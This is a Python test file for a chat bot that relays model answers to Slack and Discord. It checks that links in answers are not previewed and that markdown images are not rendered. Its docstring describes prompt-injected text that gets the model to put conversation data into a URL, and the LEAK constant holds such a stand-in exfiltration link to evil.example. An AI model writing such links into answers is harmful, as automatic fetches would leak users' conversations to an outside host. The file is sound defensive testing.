"""Links that leak: what the model writes is fetched by no platform, and by no reader, before somebody opens it.

A message that the bot reads may ask it to put what it knows into an address; an image or a preview would send it there.
"""

import pytest

from core.store import Database
from tests.stage import Stage
from tests.talk import Running
from tests.wire.discord import DiscordStage
from tests.wire.openai import OpenAIServer
from tests.wire.slack import SlackStage

LEAK = "https://evil.example/p.png?q=the-conversation"
ANSWER = f"Look: ![a chart]({LEAK}) or {LEAK} or [here]({LEAK})."
_SUPPRESSES_PREVIEWS = 1 << 2


@pytest.fixture
def dialect() -> str:
    """What is on screen does not depend on the database."""
    return "sqlite"


@pytest.mark.parametrize("platform", [SlackStage, DiscordStage])
async def test_an_answer_shows_no_image_and_no_preview(url: str, platform: type[Stage], database: Database) -> None:
    async with OpenAIServer(answer=lambda _: ANSWER, pause=0.01) as model, platform() as stage:
        if isinstance(stage, SlackStage):
            stage.server.workspace.streams_a_minute = 0
        async with Running(url, model, stage):
            await stage.say("what is in there?")
            await stage.until(lambda: any("here" in one.text and one.done for one in stage.shown()))

        if isinstance(stage, SlackStage):
            _judge_slack(stage)
        if isinstance(stage, DiscordStage):
            _judge_discord(stage)


def _judge_slack(stage: SlackStage) -> None:
    """A markdown block makes a link of an image; docs.slack.dev/reference/block-kit/blocks/markdown-block."""
    posts = [given for method, given, _ in stage.server.calls if method == "chat.postMessage"]
    assert posts
    assert all(given["unfurl_links"] is given["unfurl_media"] is False for given in posts)
    assert {block["type"] for message in stage.server.workspace.messages for block in message.blocks} == {"markdown"}


def _judge_discord(stage: DiscordStage) -> None:
    written = [one for one in stage.world.requests if one.method == "POST" and one.path.endswith("/messages")]
    assert written
    assert all(one.body["flags"] & _SUPPRESSES_PREVIEWS for one in written)
    assert not any("![" in one.text for one in stage.shown())
    assert f"[a chart]({LEAK})" in stage.shown()[0].text
